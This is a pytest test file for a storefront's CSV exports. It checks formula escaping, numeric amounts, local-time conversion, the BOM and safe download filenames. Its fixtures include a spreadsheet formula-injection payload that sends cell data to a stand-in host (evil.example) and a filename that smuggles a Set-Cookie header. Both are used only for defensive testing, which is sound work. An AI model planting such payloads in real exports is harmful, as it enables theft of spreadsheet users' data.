"""Every CSV download: formulas guarded, numbers kept, a BOM, local times, safe headers."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest

from storefront.exports import cell, csv_response, mad, safe_filename, write_csv
from storefront.orders import services as orders
from storefront.orders.models import Channel
from storefront.showroom import services as showroom
from tests.factories import make_artisan, make_product, make_user
from tests.showroom.factories import make_counter_sale, make_register_session

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+212 600", "'+212 600"),
        ("-12.50", "'-12.50"),  # text that looks like a number is still text
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("جرة", "جرة"),
        ("a=b", "a=b"),
        (mad(-1250), "-12.50"),  # an amount is a number, negative or not
        (mad(5), "0.05"),
        (mad(0), "0.00"),
        (mad(99999999999), "999999999.99"),
        (-3, -3),
        (True, "yes"),
        (None, ""),
        (date(2026, 7, 1), "2026-07-01"),
        (datetime(2026, 6, 30, 23, 30), "2026-07-01 00:30"),  # stored UTC, written local
        (datetime(2026, 2, 25, 23, 30), "2026-02-25 23:30"),  # Ramadan: UTC+0
    ],
)
def test_cells(value, written):
    assert cell(value) == written


def test_mad_is_exact():
    assert mad(-1250) == Decimal("-12.50") and mad(24995) == Decimal("249.95")


def test_safe_filename():
    assert safe_filename("reconciliation-2026-07-01.csv") == "reconciliation-2026-07-01.csv"
    assert safe_filename('a"; b\r\nSet-Cookie: x.csv') == "a-b-Set-Cookie-x.csv"
    assert safe_filename("مبيعات.csv") == "export.csv"


def test_response_is_utf8_with_a_bom_and_an_attachment(app):
    body = write_csv(["name", "amount"], [["جرة", mad(-1250)]])
    with app.test_request_context():
        response = csv_response(body, "sales 2026/07.csv")
    assert response.data.startswith(b"\xef\xbb\xbfname,amount\r\n")
    assert response.data.decode("utf-8-sig") == "name,amount\r\nجرة,-12.50\r\n"
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="sales-2026-07.csv"'


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.data.startswith(b"\xef\xbb\xbf")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def test_artisan_sales_csv_guards_titles_and_shows_local_time(client, session, login):
    artisan = make_artisan(session, name=HOSTILE, commission_bps=1000)
    piece = make_product(session, artisan=artisan, title_fr=HOSTILE, price_minor=12345)
    order = orders.create_order(session, channel=Channel.ONLINE, lines=[(piece.id, 1)])
    orders.mark_paid(session, order, payment_method="test", payment_reference=None)
    order.paid_at = datetime(2026, 6, 30, 23, 30)
    login(make_user(session, role="artisan", artisan_id=artisan.id))
    session.commit()
    response = client.get("/dashboard/sales.csv?month=2026-07")
    assert response.headers["Content-Disposition"] == 'attachment; filename="sales-2026-07.csv"'
    header, row = _rows(response)
    assert header[0] == "date" and len(row) == len(header)
    assert row == ["2026-07-01 00:30", order.number, "online", piece.sku, "'" + HOSTILE, "1",
                   "0", "123.45", "12.35", "111.10"]  # fmt: skip


def test_reconciliation_csv_guards_names_and_keeps_negative_numbers(client, session, login):
    staff = make_user(session, role="staff")
    artisan = make_artisan(session, name=HOSTILE)
    first = make_register_session(session, register=1, user=staff, float_minor=0)
    second = make_register_session(session, register=2, user=staff, float_minor=0)
    sold = make_product(session, artisan=artisan, price_minor=30000)
    order = make_counter_sale(session, first, [sold], cash=0, card=30000, staff=staff)
    # Refunded at the other register, whose card takings go to -300.00.
    showroom.refund_at_counter(
        session, order, items=[(order.lines[0].id, 1)], reason="cracked", restock=True,
        method="card_terminal", reference="R-1", user=staff, register_session=second,
        refund_key="exports-1",
    )  # fmt: skip
    second.opened_at = datetime(2026, 6, 30, 23, 30)
    login(staff)
    session.commit()
    day = first.business_date.isoformat()
    response = client.get(f"/staff/reconciliation/{day}.csv")
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="reconciliation-{day}.csv"'
    )
    rows = _rows(response)
    records = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    sessions = [r for r in records if r["section"] == "session"]
    (maker,) = [r for r in records if r["section"] == "artisan"]
    (total,) = [r for r in records if r["section"] == "day"]
    assert [(r["key"], r["card_sales"], r["expected_card"]) for r in sessions] == [
        (str(first.id), "300.00", "300.00"),
        (str(second.id), "-300.00", "-300.00"),  # a number, not guarded text
    ]
    assert sessions[1]["opened_at"] == "2026-07-01 00:30"  # stored UTC, written local
    assert (maker["name"], maker["pieces"], maker["gross"]) == ("'" + HOSTILE, "0", "0.00")
    assert (total["key"], total["card_sales"]) == (day, "0.00")
